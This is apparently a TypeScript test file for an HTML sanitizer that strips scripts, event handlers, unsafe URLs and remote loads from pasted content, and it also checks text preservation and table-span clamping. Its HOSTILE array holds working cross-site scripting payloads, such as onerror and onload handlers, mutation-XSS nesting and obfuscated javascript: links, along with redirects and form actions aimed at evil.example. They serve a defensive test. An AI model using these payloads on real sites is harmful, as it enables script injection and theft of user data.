import fc from "fast-check";
import { expect, test } from "vitest";
import { cleanHtml, hasReadableWords } from "../../../shared/html/clean-html.ts";
import { type HtmlNode, isElement, readHtml, textOf } from "../../../shared/html/tree.ts";

const HERE = "01M7MAQDPGSZ3NA00QHSJAYN3C/en";
const clean = (html: string): string => cleanHtml(html, HERE).html;

const ELEMENTS = new Set(
  (
    "p div h2 h3 h4 ul ol li table thead tbody tfoot tr td th blockquote figure figcaption img br hr a b strong i em span " +
    "section article aside address header footer hgroup dl dd pre output"
  ).split(" "),
);
const ATTRIBUTES = new Set(
  "href colspan rowspan colwidth start type alt style data-asset data-credit data-id data-row data-from data-pm-slice".split(
    " ",
  ),
);

/** What in a piece of HTML could run, load or be asked for. */
function harmIn(node: HtmlNode): string[] {
  if (!isElement(node)) return [];
  const attrs = [...node.attrs].flatMap(([name, value]) => {
    if (!ATTRIBUTES.has(name)) return [`${node.tag} ${name}`];
    if (name === "style" && value !== "font-weight: 400") return [`${node.tag} style ${value}`];
    return name === "href" && !/^(https?|mailto|tel):/i.test(value.trim()) ? [`href ${value}`] : [];
  });
  return [...(ELEMENTS.has(node.tag) ? [] : [node.tag]), ...attrs, ...node.children.flatMap(harmIn)];
}
const harm = (html: string): string[] => readHtml(html).children.flatMap(harmIn);

const HOSTILE = [
  '<img src=x onerror="steal()" srcset="y 2x" style="background:url(https://evil.example/a)">',
  '<p onclick="steal()" onmouseover=steal() style="background-image:url(x)">ນ້ຳຂອງ</p>',
  "<svg onload=steal()><script>steal()</script><foreignObject><p>x</p></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
  '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  "<template><img src=x onerror=steal()></template><style>@import 'https://evil.example/a.css'</style>",
  '<iframe srcdoc="<script>steal()</script>"></iframe><object data=x></object><embed src=x>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button formaction=javascript:steal()>go</button><input onfocus=steal() autofocus></form>',
  '<table background="https://evil.example/a"><tr><td background=b>ແຂວງ</td></tr></table><video poster=x><source src=x></video>',
  '<a href="javascript:steal()">a</a><a href=" java\nscript:steal()">b</a><a href="data:text/html,x" ping="https://evil.example/">c</a>',
  "<xmp><img src=x onerror=steal()></xmp><plaintext><img src=x onerror=steal()>",
  "<p>&lt;img src=x onerror=steal()&gt; <b title='\"><img src=x onerror=steal()>'>bold</b></p>",
  "<x-y onfocus=steal() tabindex=1>custom</x-y><marquee onstart=steal()>m</marquee><details open ontoggle=steal()>d</details>",
  '<p data-pm-slice=\'1 1 ["table",{"x":"<img src=x onerror=steal()>"}]\' data-from="x" data-id="y">ours</p>',
];

test("nothing that runs, loads or is asked for is left of what is pasted", () => {
  for (const html of HOSTILE) expect([html, harm(clean(html))]).toEqual([html, []]);
  const piece = fc.oneof(
    fc.constantFrom(...HOSTILE),
    fc.constantFrom(
      "<b>",
      "</p>",
      "<table>",
      "<td>",
      "</svg>",
      "<svg>",
      "<style>",
      "</style>",
      "<!--",
      "-->",
      "<a href='",
      "'>",
      '"',
    ),
    fc.string(),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
      expect(harm(clean(pieces.join("")))).toEqual([]);
    }),
    { numRuns: 500 },
  );
});

test("the words stay, whatever stands around them", () => {
  expect(clean("<main><x-y>ນ້ຳຂອງ</x-y> <center>ຂຶ້ນ</center></main>")).toBe("ນ້ຳຂອງ ຂຶ້ນ");
  expect(hasReadableWords('<style>p {}</style><img src="x"> ')).toBe(false);
  expect(hasReadableWords("<p>ນ້ຳ</p>")).toBe(true);
});

const spansIn = (html: string) =>
  [...clean(html).matchAll(/<t[dh]([^>]*)>/g)].map(([, attrs]) => attrs?.trim().replaceAll('"', ""));

test("a table's spans are as wide as what stands around them, however they are written", () => {
  const table = (...rows: string[]) => `<table>${rows.map((row) => `<tr>${row}</tr>`).join("")}</table>`;
  const cell = (spans: string) => `<td ${spans}>ແຂວງ</td>`;
  for (const wild of ["0", "abc", "2.5", "1001", "-3", "1e9", "99999999999999999999"])
    expect(spansIn(table(cell(`colspan="${wild}" rowspan="${wild}"`) + cell("")))).toEqual(["", ""]);
  // One head over two columns, and a cell beside two rows.
  expect(spansIn(table(cell("colspan=2") + cell("rowspan=2"), cell("") + cell("")))).toEqual([
    "colspan=2",
    "rowspan=2",
    "",
    "",
  ]);
  expect(spansIn(table(cell("colspan=99999").repeat(50), cell("")))).toEqual(["colspan=2", ...Array(50).fill("")]);
  expect(spansIn(table(cell('colwidth="120,x"'), cell('colwidth="90"')))).toEqual(["", "colwidth=90"]);
});

test("what would be a table of gaps is the contents of its cells", () => {
  const wide = "<td>ແຂວງ</td>".repeat(900);
  const html = clean(`<table><tr>${wide}</tr>${"<tr><td>Pakse</td></tr>".repeat(900)}</table>`);
  expect(html).not.toContain("<t");
  expect(html.match(/Pakse/g)).toHaveLength(900);
});

test("what is nested without an end comes in with its words", () => {
  for (const tag of ["div", "b", "ul><li", "table><tr><td", "blockquote", "font"])
    expect(textOf(readHtml(clean(`${`<${tag}>`.repeat(5000)}ນ້ຳຂອງ`)))).toContain("ນ້ຳຂອງ");
});
